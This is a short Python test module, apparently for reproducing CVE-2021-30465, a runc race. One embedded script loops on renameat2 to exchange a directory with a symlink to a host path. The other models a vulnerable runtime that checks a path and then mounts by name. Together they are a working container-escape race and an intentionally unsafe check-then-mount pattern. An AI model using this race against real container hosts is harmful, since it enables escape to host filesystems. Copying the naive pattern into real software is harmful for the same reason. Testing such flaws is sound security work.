"""A process that swaps two names in a directory as fast as it can, and what falls for that (CVE-2021-30465)."""

from __future__ import annotations

import contextlib
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

_SWAP = """
import ctypes, sys
libc = ctypes.CDLL(None)
one, other = (name.encode() for name in sys.argv[1:])
print("swapping", flush=True)
while True:
    libc.renameat2(-100, one, -100, other, 2)  # RENAME_EXCHANGE
"""

# What a runtime does that trusts paths: look where a destination leads, then mount there by its name.
NAIVE = """
import ctypes, os, sys
root, target = sys.argv[1:]
libc = ctypes.CDLL(None)
assert libc.unshare(0x20000) == 0 and libc.mount(b"", b"/", b"", 0x44000, b"") == 0
for _ in range(2000):
    destination = root + "/vol/place/deep"
    try:
        leads_inside = os.path.realpath(destination).startswith(root)
    except OSError:
        continue
    if leads_inside:
        libc.mount(b"none", destination.encode(), b"tmpfs", 0, b"")
    with open("/proc/self/mountinfo") as file:
        if any(line.split()[4].startswith(target) for line in file):
            sys.exit(0)
sys.exit("never")
"""


@contextlib.contextmanager
def swapped(volume: Path, target: Path) -> Iterator[None]:
    """`volume`/place is now a directory and now a link to the host's `target`; both hold a directory "deep"."""
    for directory in (volume / "place" / "deep", target / "deep"):
        directory.mkdir(parents=True)
    (volume / "link").symlink_to(target)
    command = [sys.executable, "-c", _SWAP, str(volume / "place"), str(volume / "link")]
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as racer:
        try:
            assert racer.stdout is not None and racer.stdout.readline() == "swapping\n"
            yield
        finally:
            racer.kill()
